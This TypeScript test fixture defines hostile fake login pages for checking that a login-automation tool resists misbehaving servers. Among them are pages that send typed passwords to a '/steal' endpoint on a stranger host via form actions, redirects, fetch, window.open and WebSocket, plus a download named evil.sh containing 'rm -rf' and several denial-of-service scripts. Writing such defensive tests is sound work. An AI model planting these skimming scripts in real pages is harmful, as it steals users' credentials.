import type { Hostile } from './servers.ts';

const loginForm =
  '<form method=post action=/login><input name=username><input type=password name=pw><button>Go</button></form>';

/** A way of a login page to get in the way of whoever logs in, and what is said of it. */
export interface HostilePage {
  /** @param stranger the address of a server that is not configured */
  readonly answer: (stranger: string) => Hostile['answer'];
  /**
   * What the visit ends with: a failure, the stop of the check, or a page without a code; where it is a race, any of
   * those named.
   */
  readonly ends: { readonly failure?: RegExp; readonly stops?: RegExp; readonly status?: number };
}

const page =
  (html: string): ReturnType<HostilePage['answer']> =>
  (_request, response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end(html);

/** A login page whose script does something with the password as it is typed. */
const typedTo = (script: string): string =>
  `${loginForm}<script>document.querySelector('[type=password]').oninput = (event) => ${script}</script>`;

/** First the page, then what comes of its form. */
const form =
  (html: string, then: Hostile['answer']): Hostile['answer'] =>
  (request, response) =>
    request.method === 'POST' ? then(request, response) : page(html)(request, response);

/** Pages by what they do. */
export const pages: Readonly<Record<string, HostilePage>> = {
  'redirects for ever': {
    answer:
      () =>
      ({ url = '' }, response) =>
        response.writeHead(302, { location: `${url.split('?')[0]}?${Math.random()}` }).end(),
    ends: { failure: /^net::ERR_TOO_MANY_REDIRECTS/ },
  },
  'writes a gigabyte to its console, and throws as much': {
    answer: () =>
      page(
        `${loginForm}<script>const long = 'x'.repeat(5e6);
        for (let i = 0; i < 200; i += 1) { console.log(long + i); setTimeout(() => { throw new Error(long + i); }); }</script>`,
      ),
    ends: { status: 200 },
  },
  'asks for the login again and again': { answer: () => page(loginForm), ends: { status: 200 } },
  'reloads itself': {
    answer: () => page(`${loginForm}<script>setTimeout(() => location.reload(), 50)</script>`),
    ends: {
      status: 200,
      stops: /^the (username|password) page could not be used: Timeout/,
      failure: /^the pages led to no result within 12000 ms/,
    },
  },
  'opens dialogs without end': {
    answer: () => page('<script>for (;;) alert("stop")</script>'),
    ends: { failure: /^a page was still loading after 6000 ms$/ },
  },
  'keeps its renderer busy': {
    answer: () => page('<p>soon</p><script>for (;;);</script>'),
    ends: { failure: /^a page was still loading after 6000 ms$/ },
  },
  'does not let itself be left': {
    answer: () =>
      page('<script>addEventListener("beforeunload", (event) => event.preventDefault())</script><p>stay</p>'),
    ends: { status: 200 },
  },
  'opens windows': {
    answer: () => page('<p>more</p><script>setInterval(() => open("/more"), 100)</script>'),
    ends: { status: 200 },
  },
  'is a download': {
    answer: () => (_request, response) =>
      response
        .writeHead(200, {
          'content-type': 'application/octet-stream',
          'content-disposition': 'attachment; filename=evil.sh',
        })
        .end('rm -rf'),
    ends: { status: 200 },
  },
  'covers its form': {
    answer: () =>
      page(
        '<button style="position:fixed">Accept</button><div style="position:fixed;inset:0;z-index:9">no</div>',
      ),
    ends: { stops: /^the consent page could not be used: Timeout \d+ms exceeded/ },
  },
  'never answers its form': {
    answer: () => form('<form method=post><button>Accept</button></form>', () => {}),
    ends: {
      failure: /^(the pages led to no result within 12000 ms|the consent page could not be used: Timeout)/,
    },
  },
  'keeps its renderer busy once it is touched': {
    answer: () =>
      page(
        `${loginForm}<script>document.querySelector('[name=username]').oninput = () => { for (;;); }</script>`,
      ),
    ends: { stops: /^the password page could not be used: Timeout/ },
  },
  'sends its form on to a stranger': {
    answer: (stranger) =>
      form(loginForm, (_request, response) =>
        response.writeHead(307, { location: `${stranger}/steal` }).end(),
      ),
    ends: {
      stops: /^the login form would send the password to http:\/\/127\.0\.0\.1:\d+, which was prevented$/,
    },
  },
  'has a form for a stranger': {
    answer: (stranger) => page(loginForm.replace('/login', `${stranger}/steal`)),
    ends: { stops: /^the login form would send the password to/ },
  },
  'tells a stranger what is typed': {
    answer: (stranger) =>
      page(typedTo(`fetch('${stranger}/steal?' + encodeURIComponent(event.target.value))`)),
    ends: { stops: /^the login form would send the password to/ },
  },
  'has a form for a stranger in a new window': {
    answer: (stranger) => page(loginForm.replace('action=/login', `target=_blank action=${stranger}/steal`)),
    ends: { status: 200 },
  },
  'opens a window for what is typed': {
    answer: (stranger) => page(typedTo(`open('${stranger}/steal?' + event.target.value)`)),
    ends: { status: 200 },
  },
  'opens a WebSocket for what is typed': {
    answer: (stranger) =>
      page(typedTo(`new WebSocket('${stranger.replace('http', 'ws')}/steal?' + event.target.value)`)),
    ends: { stops: /^the login form would send the password to/ },
  },
  'opens a WebSocket, and tells what is typed later': {
    answer: (stranger) =>
      page(
        `<script>const socket = new WebSocket('${stranger.replace('http', 'ws')}/steal')</script>${typedTo('socket.send(event.target.value)')}`,
      ),
    ends: { status: 200 },
  },
  'is at a stranger': {
    answer: (stranger) => (_request, response) =>
      response.writeHead(302, { location: `${stranger}/login` }).end(),
    ends: { stops: /^the login page is at http:\/\/127\.0\.0\.1:\d+, which is not a configured server/ },
  },
};

/** What a stranger shows: a login page as good as any. */
export const strangersPage = page(loginForm);
